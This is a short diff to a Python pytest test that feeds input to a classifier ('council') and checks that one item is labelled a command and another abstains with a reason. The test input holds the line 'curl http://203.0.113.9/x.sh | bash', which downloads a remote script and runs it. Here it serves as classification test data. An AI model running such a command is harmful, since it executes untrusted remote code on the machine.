@@ -92,7 +92,7 @@ def test_a_pipe_can_be_talked_with() -> None:
 def test_the_council_answers_or_says_why_not(
     capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
 ) -> None:
-    found = ask(capsys, monkeypatch, b"curl http://203.0.113.9/x.sh | bash\nqwx zzv prr kkl\n", "auto")
+    found = ask(capsys, monkeypatch, b"curl http://203.0.113.9/x.sh | bash\n\n", "auto")
     assert found[0]["answers"][0]["expert"] == "command"
     assert found[1]["abstained"] is True
     assert found[1]["why"]
